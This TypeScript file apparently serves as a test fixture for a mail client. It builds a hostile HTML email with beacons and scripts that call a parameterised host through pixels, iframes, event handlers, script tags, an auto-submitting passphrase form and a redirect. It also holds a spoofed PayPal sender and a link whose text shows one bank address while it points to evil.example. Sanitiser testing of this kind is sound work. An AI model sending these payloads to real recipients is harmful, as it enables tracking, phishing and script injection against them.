/** A message that tries every way known to run, to fetch, to leave, or to deceive. @param at host and port of whoever waits for it */
export const hostileHtml = (at: string): string => `
<html><head><title>Taken over</title>
<base href="http://${at}/base/">
<meta http-equiv="refresh" content="0;url=http://${at}/refresh">
<link rel="stylesheet" href="http://${at}/link.css"><link rel="prefetch" href="http://${at}/prefetch">
<link rel="dns-prefetch" href="//prefetched.example"><link rel="preconnect" href="http://${at}">
<style>@import url(http://${at}/import.css); body { background: url(http://${at}/style.png) }
@font-face { font-family: f; src: url(http://${at}/font.woff2) } p { font-family: f }</style></head>
<body background="http://${at}/body.png" onload="new Image().src='http://${at}/onload'">
<p>Dear officer, the words of this message stay.</p>
<p><a href="https://evil.example/login?u=1">https://bank.example/</a></p>
<img src="http://${at}/pixel.png" width="1" height="1"><img srcset="http://${at}/srcset.png 1x">
<img src=x onerror="new Image().src='http://${at}/onerror'">
<img src="cid:picture@example.org" alt="carried">
<div style="background-image:url(http://${at}/inline.png)">styled</div>
<table background="http://${at}/table.png"><tr><td>cell</td></tr></table>
<iframe src="http://${at}/frame"></iframe><object data="http://${at}/object"></object><embed src="http://${at}/embed">
<video src="http://${at}/video" poster="http://${at}/poster"></video><audio src="http://${at}/audio" autoplay></audio>
<picture><source srcset="http://${at}/source.png"><img src="http://${at}/picture.png"></picture>
<svg><image href="http://${at}/svg.png"/><script>new Image().src='http://${at}/svg-script'</script></svg>
<math><mtext><img src="http://${at}/math.png"></mtext></math>
<form action="http://${at}/form"><input name="passphrase"><button autofocus onfocus="this.form.submit()">Go</button></form>
<script>new Image().src='http://${at}/script'; window.top.location='http://${at}/top'</script>
<a href="javascript:new Image().src='http://${at}/javascript'">click</a>
</body></html>`

/** One red pixel. */
const picture = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC'

/** The message as it comes over the wire, with the picture that it carries. */
export const hostileMail = (at: string): string =>
  [
    'From: "PayPal" <service@evil.example>',
    'To: desk@example.org',
    'Subject: Your account',
    'Message-ID: <hostile@evil.example>',
    'Date: Mon, 2 Nov 2026 09:00:00 +0000',
    'MIME-Version: 1.0',
    'Content-Type: multipart/related; boundary=b',
    '',
    '--b',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: base64',
    '',
    ...(Buffer.from(hostileHtml(at))
      .toString('base64')
      .match(/.{1,76}/g) ?? []),
    '--b',
    'Content-Type: image/png; name=red.png',
    'Content-ID: <picture@example.org>',
    'Content-Disposition: inline; filename=red.png',
    'Content-Transfer-Encoding: base64',
    '',
    picture,
    '--b--',
    '',
  ].join('\r\n')
